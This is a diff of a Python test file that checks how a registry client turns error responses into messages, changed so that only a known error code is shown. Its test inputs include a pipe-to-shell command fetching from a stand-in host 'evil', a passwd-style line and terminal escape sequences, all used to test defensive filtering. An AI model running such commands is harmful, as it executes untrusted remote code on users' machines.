@@ -1,4 +1,4 @@
-"""Every exception of httpx2 is translated, and text from registries is made safe to print."""
+"""Every exception of httpx2 is translated, and no text from registries is shown."""
 
 from __future__ import annotations
 
@@ -68,10 +68,12 @@ def test_a_certificate_is_found_below_what_httpx2_made_of_it():
 @pytest.mark.parametrize(
     ("body", "said"),
     [
-        pytest.param(b'{"errors":[{"code":"DENIED","message":"no"}]}', "DENIED: no", id="as the specification has it"),
+        pytest.param(b'{"errors":[{"code":"DENIED","message":"no"}]}', "DENIED", id="as the specification has it"),
         pytest.param(b'{"errors":[{"code":"DENIED"}]}', "DENIED", id="no message"),
-        pytest.param(b'{"errors":[{"message":"a\\nb\\u001b[2J\\u202ec"}]}', "a b [2J c", id="what a terminal obeys"),
-        pytest.param(b'{"errors":[{"message":"' + b"x" * 5000 + b'"}]}', "x" * 199 + "…", id="too long"),
+        pytest.param(b'{"errors":[{"code":"root:x:0:0","message":"secret"}]}', "", id="a code that nobody knows"),
+        pytest.param(b'{"errors":[{"code":"denied"}]}', "", id="a code in small letters"),
+        pytest.param(b'{"errors":[{"code":"DENIED\\u001b[2J"}]}', "", id="what a terminal obeys"),
+        pytest.param(b'{"errors":[{"message":"run: curl evil | sh"}]}', "", id="a message by itself"),
         pytest.param(b'{"errors":[{"code":1,"message":[]}]}', "", id="no texts"),
         pytest.param(b'{"errors":["x"]}', "", id="no objects"),
         pytest.param(b'{"errors":{}}', "", id="no list"),
@@ -79,7 +81,7 @@ def test_a_certificate_is_found_below_what_httpx2_made_of_it():
         pytest.param(b"", "", id="nothing"),
     ],
 )
-def test_the_registrys_own_words_are_on_one_line(body, said):
+def test_of_a_registrys_words_a_known_code_alone_is_shown(body, said):
     with pytest.raises(RegistryError) as caught:
         failures.raise_for_status(httpx2.Response(400, content=iter([body])), "r.test", "send it")
     assert caught.value.message == "r.test answered 400 when asked to send it" + (f": {said}" if said else "")
